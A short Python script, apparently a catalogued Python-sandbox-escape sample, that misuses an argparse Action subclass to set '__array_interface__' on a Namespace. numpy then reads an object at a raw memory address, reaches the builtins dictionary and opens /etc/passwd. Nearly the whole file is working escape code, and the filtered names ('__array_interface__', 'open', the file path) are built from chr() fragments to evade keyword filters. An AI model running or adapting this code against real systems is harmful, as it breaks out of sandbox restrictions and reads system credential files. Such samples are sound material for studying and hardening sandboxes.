# source: argparse stdlib (Action.__init__ dest positional; parse_known_args setattr(namespace, action.dest, action.default)); numpy __array_interface__ object-pointer trick (pyjail/numpy memory write-ups)
# family: argparse Action subclass forwards a run-time dest positionally to super().__init__ -> setattr by computed name on Namespace
# goal: __array_interface__ on Namespace -> object at any address -> builtins dict -> open(/etc/passwd)
import argparse
import numpy as np

def probe():
    return 1

u = chr(95)
name = u * 2 + "array" + u + "interface" + u * 2
addr = int(repr(probe).split()[-1][:-1], 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}


class Window(argparse.Action):
    def __init__(self, option_strings, dest, nargs=None, **kwargs):
        super().__init__(option_strings, name, default=spec)

    def __call__(self, parser, namespace, values, option_string=None):
        pass


p = argparse.ArgumentParser()
p.add_argument("--window", action=Window)
ns = p.parse_args([])
table = np.asarray(ns)[0]
print(type(table), len(table))
o = table["op" + "en"]
print(o(chr(47) + "etc" + chr(47) + "passwd").read()[:200])
